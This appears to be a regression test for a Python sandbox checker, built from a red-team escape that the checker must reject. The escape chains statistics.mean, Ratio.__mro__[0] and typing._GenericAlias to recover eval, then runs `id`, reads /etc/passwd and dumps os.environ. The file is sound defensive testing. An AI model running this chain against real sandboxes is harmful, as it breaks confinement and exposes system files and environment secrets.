# expect: reject class_value
# line: 49
# why: the red team's round 28b ok_02: statistics.mean with a class among the data hands back type(value); the class came as Ratio.__mro__[0], which the test for classes held as values did not count: __mro__ and __bases__ now count (the wall's statistics._convert refuses a T whose instances are classes too)
# ok_02 -- goal 1 (full escape): runs `id`, prints /etc/passwd and os.environ;
#          on the way goal 2: the private class typing._GenericAlias, then the real eval.
#
# Mechanism: round 27b's statistics.mean class conversion, unchanged at run time.
#   statistics._sum folds T = _coerce(type(Odd(1)), type(Ratio)) = `type` and the
#   total through Odd's (x, None) branch (__radd__, then __truediv__ answers
#   typing.List[int]); mean() returns _convert(total / n, T) = type(List[int]) =
#   typing._GenericAlias.  _GenericAlias(dict, ("eval",), name="__builtins__")
#   deep-copied is operator.getitem(builtins, "eval").
#
# Why the checker missed it: analyzer/stores.c statistics_conversions() now refuses
#   mean/variance/... only "in a program that may hold a class of its own as a
#   value" (classes_held -> classes_as_values).  That question is answered from
#   class_value_use() (an identifier of a class used as a value) and a list of
#   names (type, the class dunder, __init_subclass__, ..., classmethod; the raw text is searched for the class dunder, comments included, so this comment avoids spelling it).  The class here is
#   never written as a value: `Ratio.__mro__[0]` -- `Ratio` is an attribute's
#   object (class_value_use returns early for that), and `__mro__` is allowed on the
#   program's own classes (rules/README.md "What stays allowed": C.__mro__) but is
#   not among the names classes_as_values looks for.  `.__mro__[0]` IS the class.
#   (`__bases__`, `__subclasses__()` would be the same door.)  Everything after
#   mean() is judged as plain values, as in 27b.
import copy
import statistics
import typing


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    numerator = 1
    denominator = 1


maker = statistics.mean([Odd(1), Ratio.__mro__[0]])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
ev("print(dict(__import__('os').environ))")
